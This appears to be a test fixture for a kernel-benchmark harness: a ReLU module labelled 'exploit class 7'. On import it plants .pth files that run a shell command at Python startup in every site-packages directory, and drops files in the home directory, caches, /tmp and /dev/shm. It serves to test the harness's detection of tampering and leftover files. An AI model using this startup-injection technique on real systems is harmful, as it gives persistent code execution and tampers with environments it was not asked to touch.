# cudice: reference=references/relu.py
# corpus: kind=runtime verdict=correct
# exploit: class 7 - at import writes a .pth into every site-packages it finds, objects into the build cache, files into the home directory, /tmp, /var/tmp and /dev/shm, then computes honestly (the test checks none of it is left)
import os
import site
import sys

import torch
import torch.nn as nn

MARK = os.environ.get("CUDICE_DAMAGE_MARK", "cudice_damage_mark")
targets = [p for p in sys.path if p.endswith("site-packages")] + site.getsitepackages()
targets += [os.path.expanduser("~"), "/root", "/tmp", "/var/tmp", "/dev/shm"]
for var in ("CUDICE_CACHE_DIR", "XDG_CACHE_HOME"):
    if os.environ.get(var):
        targets.append(os.environ[var])
targets.append(os.path.expanduser("~/.cache/cudice/build"))
for d in targets:
    for name in (f"{MARK}.pth", f"objects/{MARK}.o"):
        try:
            path = os.path.join(d, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("import os; os.system('echo pwned')\n")
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
